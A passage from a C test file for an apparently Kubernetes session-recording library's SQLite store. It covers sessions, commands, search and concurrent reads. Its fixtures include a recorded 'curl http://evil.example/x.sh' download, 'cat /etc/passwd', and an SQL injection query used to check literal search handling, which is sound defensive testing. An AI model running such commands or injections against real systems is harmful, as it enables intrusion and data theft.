// SPDX-License-Identifier: Apache-2.0
/*
 * libkubetape store against real SQLite files in a mkdtemp directory:
 * open/version checks, sessions, commands, search (hostile input included),
 * a reader beside a committing writer.  Chunks and streams:
 * test_store_stream.c; the fixture: store_fixture.h.
 */
#include "store_fixture.h"

static void t_create_reopen(void)
{
	char path[128];
	struct kt_store *st = create_store(path, sizeof(path)), *ro = NULL, *rw = NULL;
	sqlite3 *db;
	sqlite3_stmt *q;

	CHECK(st != NULL);
	kt_store_close(st);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_CREATE, &st), 0);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_RDONLY, &ro), 0);
	CHECK_EQ_INT(kt_store_open(path, 0, &rw), 0);
	kt_store_close(rw);
	kt_store_close(ro);
	kt_store_close(st);
	kt_store_close(NULL);

	CHECK_EQ_INT(sqlite3_open(path, &db), SQLITE_OK);
	CHECK_EQ_INT(sqlite3_prepare_v2(db, "SELECT value FROM meta WHERE key='schema_version'",
					-1, &q, NULL), SQLITE_OK);
	CHECK_EQ_INT(sqlite3_step(q), SQLITE_ROW);
	CHECK_EQ_INT(sqlite3_column_int(q, 0), KT_SCHEMA_VERSION);
	sqlite3_finalize(q);
	CHECK_EQ_INT(sqlite3_prepare_v2(db, "PRAGMA journal_mode", -1, &q, NULL), SQLITE_OK);
	CHECK_EQ_INT(sqlite3_step(q), SQLITE_ROW);
	CHECK_EQ_STR((const char *)sqlite3_column_text(q, 0), "wal");
	sqlite3_finalize(q);
	sqlite3_close(db);

	CHECK_EQ_INT(kt_store_open(path, KT_STORE_RDONLY | KT_STORE_CREATE, &st), -EINVAL);
}

static void t_open_missing(void)
{
	char path[128];
	struct kt_store *st = (void *)1;

	new_path(path, sizeof(path));
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_RDONLY, &st), -ENOENT);
	CHECK(st == NULL);
	CHECK_EQ_INT(kt_store_open(path, 0, &st), -ENOENT);
	CHECK(access(path, F_OK) != 0); /* not created as a side effect */
}

static void t_open_not_db(void)
{
	char path[128], buf[64] = { 0 };
	struct kt_store *st = NULL;
	const char *junk = "this is not an SQLite database, it is a text file\n";
	FILE *f;

	new_path(path, sizeof(path));
	f = fopen(path, "w");
	fputs(junk, f);
	fclose(f);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_RDONLY, &st), -EPROTO);
	CHECK_EQ_INT(kt_store_open(path, 0, &st), -EPROTO);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_CREATE, &st), -EPROTO);
	f = fopen(path, "r");
	CHECK(fread(buf, 1, sizeof(buf) - 1, f) > 0);
	fclose(f);
	CHECK(strncmp(buf, junk, strlen(junk)) == 0); /* untouched */

	/* an SQLite database that is someone else's */
	new_path(path, sizeof(path));
	CHECK_EQ_INT(kt_fx_sql_exec(path, "CREATE TABLE foo (x); INSERT INTO foo VALUES (1);"), 0);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_RDONLY, &st), -EPROTO);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_CREATE, &st), -EPROTO);

	/* an empty file: readers refuse, the recorder initializes it */
	new_path(path, sizeof(path));
	fclose(fopen(path, "w"));
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_RDONLY, &st), -EPROTO);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_CREATE, &st), 0);
	kt_store_close(st);
}

static void t_open_newer_version(void)
{
	char path[128];
	struct kt_store *st = create_store(path, sizeof(path));

	CHECK(st != NULL);
	kt_store_close(st);
	CHECK_EQ_INT(kt_fx_sql_exec(path, "UPDATE meta SET value = 99 WHERE key = 'schema_version'"), 0);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_RDONLY, &st), -EPROTO);
	CHECK_EQ_INT(kt_store_open(path, 0, &st), -EPROTO);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_CREATE, &st), -EPROTO);
	CHECK_EQ_INT(kt_fx_sql_exec(path, "DELETE FROM meta WHERE key = 'schema_version'"), 0);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_RDONLY, &st), -EPROTO);
}

static void t_rdonly_refuses_writes(void)
{
	char path[128];
	struct kt_store *st = create_store(path, sizeof(path)), *ro = NULL;
	struct kt_session_info s = { .uuid = "x" };
	struct kt_chunk_builder b;

	CHECK(st != NULL);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_RDONLY, &ro), 0);
	CHECK_EQ_INT(kt_store_session_create(ro, &s), -EROFS);
	CHECK_EQ_INT(kt_store_begin(ro), -EROFS);
	kt_chunk_builder_init(&b);
	kt_chunk_add(&b, KT_FRAME_OUT, 1, "x", 1);
	CHECK_EQ_INT(kt_store_chunk_append(ro, 1, &b), -EROFS);
	kt_chunk_builder_free(&b);
	kt_store_close(ro);
	kt_store_close(st);
}

static void t_transactions(void)
{
	char path[128];
	struct kt_store *st = create_store(path, sizeof(path)), *ro = NULL;
	struct kt_session_info got;
	int64_t id;

	CHECK(st != NULL);
	CHECK_EQ_INT(kt_store_commit(st), -EINVAL);
	CHECK_EQ_INT(kt_store_begin(st), 0);
	CHECK_EQ_INT(kt_store_begin(st), -EINVAL);
	id = add_session(st, "tx-1", "ns", "pod", 100, 0, 0, true);
	CHECK(id > 0);
	/* a failing operation inside the batch rolls back only itself */
	CHECK_EQ_INT(add_session(st, "tx-1", "ns", "pod", 100, 0, 0, true), -1);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_RDONLY, &ro), 0);
	CHECK_EQ_INT(kt_store_session_get(ro, id, &got), -ENOENT); /* not committed */
	CHECK_EQ_INT(kt_store_commit(st), 0);
	CHECK_EQ_INT(kt_store_session_get(ro, id, &got), 0);
	CHECK_EQ_STR(got.uuid, "tx-1");
	kt_store_close(ro);
	kt_store_close(st);
}

/* ---------------------------------------------------------------- sessions */

static void fill_session(struct kt_session_info *s)
{
	memset(s, 0, sizeof(*s));
	snprintf(s->uuid, sizeof(s->uuid), "abcd1234-00000000000000ff");
	s->kernel_id = 0xff00000000000001ull; /* bit 63 survives the int64 column */
	s->start_us = 1700000000000000;
	s->end_us = 0;
	s->state = KT_SESSION_ACTIVE;
	s->has_exit = false;
	s->exit_status = 0;
	strcpy(s->node, "node-a");
	strcpy(s->k8s_namespace, "prod");
	strcpy(s->pod, "web-7d9f");
	strcpy(s->pod_uid, "0f1e2d3c-uid");
	strcpy(s->container, "nginx");
	strcpy(s->container_id, "containerd://abcdef");
	strcpy(s->runtime, "containerd");
	s->attribution_guess = true;
	s->entry_flags = KT_SESSION_F_FROM_NODE | KT_SESSION_F_HOST_PID;
	strcpy(s->hostname, "web-7d9f");
	strcpy(s->cgroup_path, "/kubepods.slice/kubepods-pod.slice/cri-containerd-abc.scope");
	s->cgroup_id = 0x8000000000000123ull;
	s->pidns_ino = 4026532000u;
	s->mntns_ino = 4026532001u;
	s->leader_pid = 4242;
	s->leader_ns_pid = 7;
	s->leader_uid = 4294967294u;
	s->leader_gid = 65534;
	strcpy(s->leader_comm, "sh");
	s->has_tty = true;
	strcpy(s->tty_name, "pts/3 on devpts 0:85");
	s->rows = 50;
	s->cols = 65535;
	strcpy(s->capture, "syscall");
	s->bytes_out = 10;
	s->bytes_in = 2;
	s->lost_bytes = 3;
	s->lost_events = 1;
	s->n_commands = 0;
	/* a field filled to the brim, no NUL */
	memset(s->leader_comm, 'x', sizeof(s->leader_comm));
}

static void t_session_crud(void)
{
	char path[128];
	struct kt_store *st = create_store(path, sizeof(path));
	struct kt_session_info s, got, dup;

	CHECK(st != NULL);
	fill_session(&s);
	CHECK_EQ_INT(kt_store_session_create(st, &s), 0);
	CHECK(s.id > 0);
	CHECK_EQ_INT(kt_store_session_get(st, s.id, &got), 0);
	CHECK_EQ_INT(got.id, s.id);
	CHECK_EQ_STR(got.uuid, s.uuid);
	CHECK(got.kernel_id == s.kernel_id);
	CHECK_EQ_INT(got.start_us, s.start_us);
	CHECK_EQ_STR(got.node, "node-a");
	CHECK_EQ_STR(got.k8s_namespace, "prod");
	CHECK_EQ_STR(got.pod, "web-7d9f");
	CHECK_EQ_STR(got.pod_uid, "0f1e2d3c-uid");
	CHECK_EQ_STR(got.container, "nginx");
	CHECK_EQ_STR(got.container_id, "containerd://abcdef");
	CHECK_EQ_STR(got.runtime, "containerd");
	CHECK(got.attribution_guess);
	CHECK_EQ_INT(got.entry_flags, KT_SESSION_F_FROM_NODE | KT_SESSION_F_HOST_PID);
	{
		char fl[128];

		CHECK_EQ_STR(kt_session_flags_str(got.entry_flags, fl, sizeof(fl)), "entered-from-node,host-pid");
		CHECK_EQ_STR(kt_session_flags_str(0, fl, sizeof(fl)), "");
		CHECK_EQ_STR(kt_session_flags_str(KT_SESSION_F_ALL | 0x100, fl, sizeof(fl)),
			     "entered-from-node,interactive-container,host-pid,recording-started-late");
	}
	CHECK_EQ_STR(got.hostname, "web-7d9f");
	CHECK_EQ_STR(got.cgroup_path, s.cgroup_path);
	CHECK(got.cgroup_id == s.cgroup_id);
	CHECK(got.pidns_ino == s.pidns_ino && got.mntns_ino == s.mntns_ino);
	CHECK(got.leader_pid == 4242 && got.leader_ns_pid == 7);
	CHECK(got.leader_uid == 4294967294u && got.leader_gid == 65534);
	CHECK_EQ_INT(strlen(got.leader_comm), sizeof(got.leader_comm) - 1);
	CHECK(got.has_tty);
	CHECK_EQ_STR(got.tty_name, "pts/3 on devpts 0:85");
	CHECK(got.rows == 50 && got.cols == 65535);
	CHECK_EQ_STR(got.capture, "syscall");
	CHECK(got.bytes_out == 10 && got.bytes_in == 2);
	CHECK(got.lost_bytes == 3 && got.lost_events == 1);

	/* uuid is unique */
	dup = s;
	CHECK_EQ_INT(kt_store_session_create(st, &dup), -EEXIST);
	/* missing rows */
	CHECK_EQ_INT(kt_store_session_get(st, 999, &got), -ENOENT);
	got = s;
	got.id = 999;
	CHECK_EQ_INT(kt_store_session_update(st, &got), -ENOENT);

	/* update: end, exit, attribution; totals never decrease */
	s.end_us = s.start_us + 5000000;
	s.state = KT_SESSION_ENDED;
	s.has_exit = true;
	s.exit_status = 256;
	strcpy(s.pod, "web-renamed");
	s.bytes_out = 0;
	s.bytes_in = 100;
	s.lost_bytes = 0;
	CHECK_EQ_INT(kt_store_session_update(st, &s), 0);
	CHECK_EQ_INT(kt_store_session_get(st, s.id, &got), 0);
	CHECK_EQ_INT(got.end_us, s.end_us);
	CHECK_EQ_INT(got.state, KT_SESSION_ENDED);
	CHECK(got.has_exit);
	CHECK_EQ_INT(got.exit_status, 256);
	CHECK_EQ_STR(got.pod, "web-renamed");
	CHECK_EQ_INT(got.bytes_out, 10);
	CHECK_EQ_INT(got.bytes_in, 100);
	CHECK_EQ_INT(got.lost_bytes, 3);
	CHECK_EQ_STR(got.uuid, s.uuid);
	kt_store_close(st);
}

struct ids {
	int64_t id[64];
	int n;
};

static int collect_cb(const struct kt_session_info *s, void *ctx)
{
	struct ids *ids = ctx;

	if (ids->n < 64)
		ids->id[ids->n++] = s->id;
	return 0;
}

static int list_ids(struct kt_store *st, const struct kt_session_filter *f, struct ids *ids)
{
	memset(ids, 0, sizeof(*ids));
	return kt_store_sessions_list(st, f, collect_cb, ids);
}

static int stop_cb(const struct kt_session_info *s, void *ctx)
{
	(*(int *)ctx)++;
	return 42;
}

static void t_session_list_filters(void)
{
	char path[128];
	struct kt_store *st = create_store(path, sizeof(path)), *ro = NULL;
	struct kt_session_filter f = KT_SESSION_FILTER_INIT;
	struct ids ids;
	int64_t a, b, c, d, e;
	int n = 0;

	CHECK(st != NULL);
	/* times in seconds for readability */
	a = add_session(st, "a", "prod", "web", 100, 200, KT_SESSION_ENDED, true);
	b = add_session(st, "b", "prod", "web", 300, 0, KT_SESSION_ACTIVE, true);
	c = add_session(st, "c", "prod", "db", 150, 400, KT_SESSION_INTERRUPTED, false);
	d = add_session(st, "d", "dev", "web", 500, 600, KT_SESSION_ENDED, true);
	e = add_session(st, "e", "dev", "job", 50, 60, KT_SESSION_ENDED, false);
	CHECK(a > 0 && b > a && c > b && d > c && e > d);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_RDONLY, &ro), 0);

	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK_EQ_INT(ids.n, 5);
	CHECK(ids.id[0] == e && ids.id[4] == a); /* newest first */
	CHECK_EQ_INT(list_ids(ro, NULL, &ids), 0);
	CHECK_EQ_INT(ids.n, 5);

	f.k8s_namespace = "prod";
	f.pod = "web";
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK(ids.n == 2 && ids.id[0] == b && ids.id[1] == a);
	f.k8s_namespace = NULL;
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK(ids.n == 3 && ids.id[0] == d);
	f.pod = NULL;
	f.container = "c-db";
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK(ids.n == 1 && ids.id[0] == c);
	f.container = NULL;
	f.node = "node-dev";
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK(ids.n == 2 && ids.id[0] == e && ids.id[1] == d);
	f.node = NULL;

	/* overlap with [since, until]; an active session is open-ended */
	f.since_us = 250;
	f.until_us = 450;
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK(ids.n == 2 && ids.id[0] == c && ids.id[1] == b);
	f.since_us = 200; /* inclusive ends: a ends at 200 */
	f.until_us = 0;
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK(ids.n == 4 && ids.id[0] == d && ids.id[3] == a);
	f.since_us = 0;
	f.until_us = 100; /* a starts at 100 */
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK(ids.n == 2 && ids.id[0] == e && ids.id[1] == a);
	f.since_us = 1000;
	f.until_us = 2000; /* only the active one */
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK(ids.n == 1 && ids.id[0] == b);
	f.since_us = f.until_us = 0;

	f.active = 1;
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK(ids.n == 1 && ids.id[0] == b);
	f.active = 0;
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK_EQ_INT(ids.n, 4);
	f.active = -1;
	f.tty = 0;
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK(ids.n == 2 && ids.id[0] == e && ids.id[1] == c);
	f.tty = 1;
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK_EQ_INT(ids.n, 3);
	f.tty = -1;

	/* pagination */
	f.limit = 2;
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK(ids.n == 2 && ids.id[0] == e && ids.id[1] == d);
	f.after_id = ids.id[1];
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK(ids.n == 2 && ids.id[0] == c && ids.id[1] == b);
	f.after_id = ids.id[1];
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK(ids.n == 1 && ids.id[0] == a);
	f.after_id = a;
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK_EQ_INT(ids.n, 0);
	/* filters combine with pagination */
	f.after_id = e;
	f.limit = 1;
	f.pod = "web";
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK(ids.n == 1 && ids.id[0] == d);

	/* no match: 0, no callback; a non-zero callback value stops and is returned */
	f = (struct kt_session_filter)KT_SESSION_FILTER_INIT;
	f.pod = "nope";
	CHECK_EQ_INT(list_ids(ro, &f, &ids), 0);
	CHECK_EQ_INT(ids.n, 0);
	CHECK_EQ_INT(kt_store_sessions_list(ro, NULL, stop_cb, &n), 42);
	CHECK_EQ_INT(n, 1);

	kt_store_close(ro);
	kt_store_close(st);
}

static void t_interrupt_open(void)
{
	char path[128];
	struct kt_store *st = create_store(path, sizeof(path));
	struct kt_session_info got;
	int64_t a, b, c;
	int count = -1;

	CHECK(st != NULL);
	a = add_session(st, "a", "ns", "p", 100, 0, KT_SESSION_ACTIVE, true);
	b = add_session(st, "b", "ns", "p", 100, 150, KT_SESSION_ENDED, true);
	c = add_session(st, "c", "ns", "p", 300, 0, KT_SESSION_ACTIVE, true);
	CHECK_EQ_INT(kt_store_sessions_interrupt_open(st, 200, &count), 0);
	CHECK_EQ_INT(count, 2);
	CHECK_EQ_INT(kt_store_session_get(st, a, &got), 0);
	CHECK(got.state == KT_SESSION_INTERRUPTED && got.end_us == 200);
	CHECK_EQ_INT(kt_store_session_get(st, b, &got), 0);
	CHECK(got.state == KT_SESSION_ENDED && got.end_us == 150);
	CHECK_EQ_INT(kt_store_session_get(st, c, &got), 0);
	/* never ends before it started */
	CHECK(got.state == KT_SESSION_INTERRUPTED && got.end_us == 300);
	CHECK_EQ_INT(kt_store_sessions_interrupt_open(st, 400, &count), 0);
	CHECK_EQ_INT(count, 0);
	kt_store_close(st);
}

/* ---------------------------------------------------------------- commands */

static int add_cmd(struct kt_store *st, int64_t sid, int64_t ts, uint32_t pid,
		   const char *argv, size_t argv_len, int64_t *id)
{
	struct kt_command c = { 0 };
	int err;

	c.session_id = sid;
	c.ts_us = ts;
	c.pid = pid;
	c.ns_pid = pid % 1000;
	c.ppid = 1;
	c.uid = 1000;
	c.gid = 1000;
	c.euid = 0;
	c.egid = 0;
	snprintf(c.comm, sizeof(c.comm), "%s", argv);
	c.filename = argv;
	c.argv = argv;
	c.argv_len = argv_len;
	for (size_t i = 0; i < argv_len; i++)
		c.argc += argv[i] == 0;
	c.cwd = "/root";
	err = kt_store_command_add(st, &c);
	if (!err && id)
		*id = c.id;
	return err;
}

struct cmds {
	struct kt_command c[16];
	char argv[16][256];
	char cwd[16][64];
	int n;
};

static int cmd_cb(const struct kt_command *c, void *ctx)
{
	struct cmds *cs = ctx;

	if (cs->n < 16) {
		cs->c[cs->n] = *c;
		memcpy(cs->argv[cs->n], c->argv, c->argv_len < 256 ? c->argv_len : 256);
		snprintf(cs->cwd[cs->n], 64, "%s", c->cwd);
		cs->n++;
	}
	return 0;
}

static void t_commands(void)
{
	char path[128];
	struct kt_store *st = create_store(path, sizeof(path));
	struct kt_session_info got;
	struct cmds cs = { 0 };
	int64_t sid, id1, id2, id3;

	CHECK(st != NULL);
	sid = add_session(st, "s", "ns", "p", 100, 0, 0, true);
	CHECK_EQ_INT(add_cmd(st, sid, 110, 10, ARGV("bash\0-l"), &id1), 0);
	CHECK_EQ_INT(add_cmd(st, sid, 120, 11, ARGV("cat\0/etc/passwd"), &id2), 0);
	CHECK_EQ_INT(add_cmd(st, sid, 130, 11, ARGV("grep\0root"), &id3), 0);
	CHECK_EQ_INT(add_cmd(st, 9999, 130, 11, ARGV("x"), NULL), -ENOENT);
	CHECK(id1 > 0 && id2 > id1 && id3 > id2);

	/* exit: the last running command of the pid; unknown pids are fine */
	CHECK_EQ_INT(kt_store_command_exit(st, sid, 11, 140, 0x100), 0);
	CHECK_EQ_INT(kt_store_command_exit(st, sid, 12345, 140, 0), 0);

	CHECK_EQ_INT(kt_store_commands_list(st, sid, cmd_cb, &cs), 0);
	CHECK_EQ_INT(cs.n, 3);
	CHECK(cs.c[0].seq == 0 && cs.c[1].seq == 1 && cs.c[2].seq == 2);
	CHECK(cs.c[0].id == id1 && cs.c[2].id == id3);
	CHECK_EQ_INT(cs.c[1].argv_len, sizeof("cat\0/etc/passwd"));
	CHECK(memcmp(cs.argv[1], "cat\0/etc/passwd", cs.c[1].argv_len) == 0);
	CHECK_EQ_INT(cs.c[1].argc, 2);
	CHECK_EQ_STR(cs.cwd[1], "/root");
	CHECK_EQ_STR(cs.c[1].comm, "cat");
	CHECK(cs.c[1].end_us == 0 && !cs.c[1].has_exit); /* replaced by grep, no exit */
	CHECK(cs.c[2].end_us == 140 && cs.c[2].has_exit && cs.c[2].exit_status == 0x100);
	CHECK(cs.c[0].end_us == 0);
	CHECK(cs.c[1].uid == 1000 && cs.c[1].pid == 11 && cs.c[1].ns_pid == 11);

	CHECK_EQ_INT(kt_store_session_get(st, sid, &got), 0);
	CHECK_EQ_INT(got.n_commands, 3);
	CHECK_EQ_STR(got.first_command, "bash -l");
	/* update with zero totals keeps the store's counts */
	got.n_commands = 0;
	got.first_command[0] = 0;
	CHECK_EQ_INT(kt_store_session_update(st, &got), 0);
	CHECK_EQ_INT(kt_store_session_get(st, sid, &got), 0);
	CHECK_EQ_INT(got.n_commands, 3);
	CHECK_EQ_STR(got.first_command, "bash -l");
	kt_store_close(st);
}

struct hits {
	int64_t cmd[64];
	int64_t sess[64];
	int n;
};

static int hit_cb(const struct kt_session_info *s, const struct kt_command *c, void *ctx)
{
	struct hits *h = ctx;

	if (h->n < 64) {
		h->cmd[h->n] = c->id;
		h->sess[h->n] = s->id;
		h->n++;
	}
	return 0;
}

static int search(struct kt_store *st, const char *q, const struct kt_session_filter *f,
		  struct hits *h)
{
	memset(h, 0, sizeof(*h));
	return kt_store_commands_search(st, q, f, hit_cb, h);
}

static void t_search(void)
{
	char path[128], *big;
	struct kt_store *st = create_store(path, sizeof(path)), *ro = NULL;
	struct kt_session_filter f = KT_SESSION_FILTER_INIT;
	struct hits h;
	int64_t s1, s2, c[10];
	const char *err_out;
	static const char *const hostile[] = {
		"\"", "'", "a OR b", "NEAR(", "*", "%", "_", "\"\"\"", "'; DROP TABLE commands; --",
		"argv_text:passwd", "^cat", "pass*", "NOT cat", "cat AND", "(", ")", "{a b}:c",
		"\\", "%%%", "a_b", "-", "+", "NEAR(cat passwd, 2)", "'\"'\"", "\x01\x02\x7f",
	};

	CHECK(st != NULL);
	s1 = add_session(st, "s1", "prod", "web", 100, 0, 0, true);
	s2 = add_session(st, "s2", "dev", "tools", 200, 0, 0, true);
	CHECK_EQ_INT(add_cmd(st, s1, 110, 10, ARGV("cat\0/etc/passwd"), &c[0]), 0);
	CHECK_EQ_INT(add_cmd(st, s1, 120, 11, ARGV("ls\0-la\0/root"), &c[1]), 0);
	CHECK_EQ_INT(add_cmd(st, s2, 210, 20, ARGV("curl\0http://evil.example/x.sh"), &c[2]), 0);
	CHECK_EQ_INT(add_cmd(st, s2, 220, 21, ARGV("echo\0" "100%\0a_b\0\"q\"\0it's"), &c[3]), 0);
	CHECK_EQ_INT(add_cmd(st, s2, 230, 22, ARGV("vi\0/etc/passwd"), &c[4]), 0);
	CHECK_EQ_INT(add_cmd(st, s2, 240, 23, ARGV("echo\0caf\xc3\xa9\0\xff\xfe"), &c[5]), 0);
	CHECK_EQ_INT(add_cmd(st, s2, 250, 24, ARGV("echo\0" "100x\0aXb"), &c[6]), 0);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_RDONLY, &ro), 0);

	/* substring inside a word, newest first */
	CHECK_EQ_INT(search(ro, "passwd", NULL, &h), 0);
	CHECK(h.n == 2 && h.cmd[0] == c[4] && h.cmd[1] == c[0] && h.sess[1] == s1);
	CHECK_EQ_INT(search(ro, "PASSWD", NULL, &h), 0);
	CHECK_EQ_INT(h.n, 2);
	/* every word must match, anywhere */
	CHECK_EQ_INT(search(ro, "passwd cat", NULL, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[0]);
	CHECK_EQ_INT(search(ro, "  /etc/passwd\t vi ", NULL, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[4]);
	CHECK_EQ_INT(search(ro, "evil.example", NULL, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[2]);
	/* short words: LIKE, with % and _ literal */
	CHECK_EQ_INT(search(ro, "ls", NULL, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[1]);
	CHECK_EQ_INT(search(ro, "%", NULL, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[3]);
	CHECK_EQ_INT(search(ro, "_", NULL, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[3]);
	CHECK_EQ_INT(search(ro, "a_b", NULL, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[3]); /* not aXb */
	CHECK_EQ_INT(search(ro, "100%", NULL, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[3]); /* not 100x */
	CHECK_EQ_INT(search(ro, "\"q\"", NULL, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[3]);
	CHECK_EQ_INT(search(ro, "it's", NULL, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[3]);
	CHECK_EQ_INT(search(ro, "'", NULL, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[3]);
	CHECK_EQ_INT(search(ro, "caf\xc3\xa9", NULL, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[5]);
	/* mixed long and short words */
	CHECK_EQ_INT(search(ro, "passwd vi", NULL, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[4]);
	CHECK_EQ_INT(search(ro, "nothing-like-this", NULL, &h), 0);
	CHECK_EQ_INT(h.n, 0);

	/* session filters and paging */
	f.k8s_namespace = "prod";
	CHECK_EQ_INT(search(ro, "passwd", &f, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[0]);
	f.k8s_namespace = NULL;
	f.pod = "tools";
	CHECK_EQ_INT(search(ro, "echo", &f, &h), 0);
	CHECK(h.n == 3 && h.cmd[0] == c[6]);
	f.limit = 2;
	CHECK_EQ_INT(search(ro, "echo", &f, &h), 0);
	CHECK(h.n == 2 && h.cmd[0] == c[6] && h.cmd[1] == c[5]);
	f.after_id = c[5];
	CHECK_EQ_INT(search(ro, "echo", &f, &h), 0);
	CHECK(h.n == 1 && h.cmd[0] == c[3]);
	f.after_id = c[6];
	CHECK_EQ_INT(search(ro, "e", &f, &h), 0); /* LIKE path pages too */
	CHECK(h.n == 2 && h.cmd[0] == c[5] && h.cmd[1] == c[4]);
	f = (struct kt_session_filter)KT_SESSION_FILTER_INIT;

	/* the filter-driven plan (few commands: LIKE) agrees with the index */
	{
		static const char *const qs[] = { "passwd", "ETC", "echo", "a_b", "e x", "100%",
						   "/etc/passwd cat", "caf\xc3\xa9", "'", "zzz" };
		struct hits h2;

		f.since_us = 1; /* selects every session, but is a filter */
		for (size_t i = 0; i < sizeof(qs) / sizeof(qs[0]); i++) {
			CHECK_EQ_INT(search(ro, qs[i], NULL, &h), 0);
			CHECK_EQ_INT(search(ro, qs[i], &f, &h2), 0);
			CHECK_EQ_INT(h2.n, h.n);
			CHECK(memcmp(h.cmd, h2.cmd, sizeof(h.cmd)) == 0);
		}
		f.limit = 1;
		f.after_id = c[4];
		CHECK_EQ_INT(search(ro, "passwd", &f, &h), 0);
		CHECK(h.n == 1 && h.cmd[0] == c[0]);
		f = (struct kt_session_filter)KT_SESSION_FILTER_INIT;
	}

	/* hostile input: no crash, no SQL/FTS error, literal semantics */
	capture_stderr();
	for (size_t i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
		int err = search(ro, hostile[i], NULL, &h);

		if (err)
			printf("# hostile query %zu failed: %d\n", i, err);
		CHECK_EQ_INT(err, 0);
	}
	err_out = captured_stderr();
	CHECK_EQ_STR(err_out, "");
	CHECK_EQ_INT(search(ro, "a OR b", NULL, &h), 0);
	CHECK_EQ_INT(h.n, 0); /* "a", "OR", "b" all required: OR appears nowhere */
	CHECK_EQ_INT(search(ro, "'; DROP TABLE commands; --", NULL, &h), 0);
	CHECK_EQ_INT(h.n, 0);
	CHECK_EQ_INT(search(ro, "cat", NULL, &h), 0);
	CHECK_EQ_INT(h.n, 1); /* table still there */

	/* rejected input */
	CHECK_EQ_INT(search(ro, "", NULL, &h), -EINVAL);
	CHECK_EQ_INT(search(ro, " \t\n", NULL, &h), -EINVAL);
	CHECK_EQ_INT(search(ro, "\xff\xfe", NULL, &h), -EINVAL);
	CHECK_EQ_INT(search(ro, "caf\xc3", NULL, &h), -EINVAL);
	CHECK_EQ_INT(search(ro, "\xed\xa0\x80", NULL, &h), -EINVAL); /* surrogate */
	CHECK_EQ_INT(search(ro, "\xc0\xaf", NULL, &h), -EINVAL);     /* overlong */
	CHECK_EQ_INT(kt_store_commands_search(ro, NULL, NULL, hit_cb, &h), -EINVAL);
	big = malloc(100 * 1024 + 1);
	memset(big, 'a', 100 * 1024);
	big[100 * 1024] = 0;
	CHECK_EQ_INT(search(ro, big, NULL, &h), -EINVAL);
	big[1024] = 0; /* exactly at the limit: accepted */
	CHECK_EQ_INT(search(ro, big, NULL, &h), 0);
	memset(big, '"', 1024); /* worst case for quoting */
	CHECK_EQ_INT(search(ro, big, NULL, &h), 0);
	for (int i = 0; i < 1024; i += 2)
		big[i] = 'x', big[i + 1] = ' '; /* 512 short words */
	CHECK_EQ_INT(search(ro, big, NULL, &h), 0);
	free(big);

	kt_store_close(ro);
	kt_store_close(st);
}

/* ---------------------------------------------------------------- stream */

/* Frame i of the test stream: OUT "out-<i>" at base + i * 1000 us, with a
 * resize every 7th and a gap every 11th. */
/* A reader's list/get while the writer holds an open write transaction. */
static void t_reader_beside_writer(void)
{
	char path[128];
	struct kt_store *st = create_store(path, sizeof(path)), *ro = NULL;
	struct ids ids;
	int64_t a, b;
	int64_t t0;

	CHECK(st != NULL);
	a = add_session(st, "a", "ns", "p", 1, 0, 0, true);
	CHECK_EQ_INT(kt_store_open(path, KT_STORE_RDONLY, &ro), 0);
	CHECK_EQ_INT(kt_store_begin(st), 0);
	b = add_session(st, "b", "ns", "p", 2, 0, 0, true);
	CHECK_EQ_INT(add_cmd(st, b, 3, 1, ARGV("uncommitted"), NULL), 0);
	t0 = kt_now_us();
	CHECK_EQ_INT(list_ids(ro, NULL, &ids), 0);
	CHECK(kt_now_us() - t0 < 1000000); /* not blocked (busy_timeout is 5 s) */
	CHECK(ids.n == 1 && ids.id[0] == a);
	CHECK_EQ_INT(kt_store_commit(st), 0);
	CHECK_EQ_INT(list_ids(ro, NULL, &ids), 0);
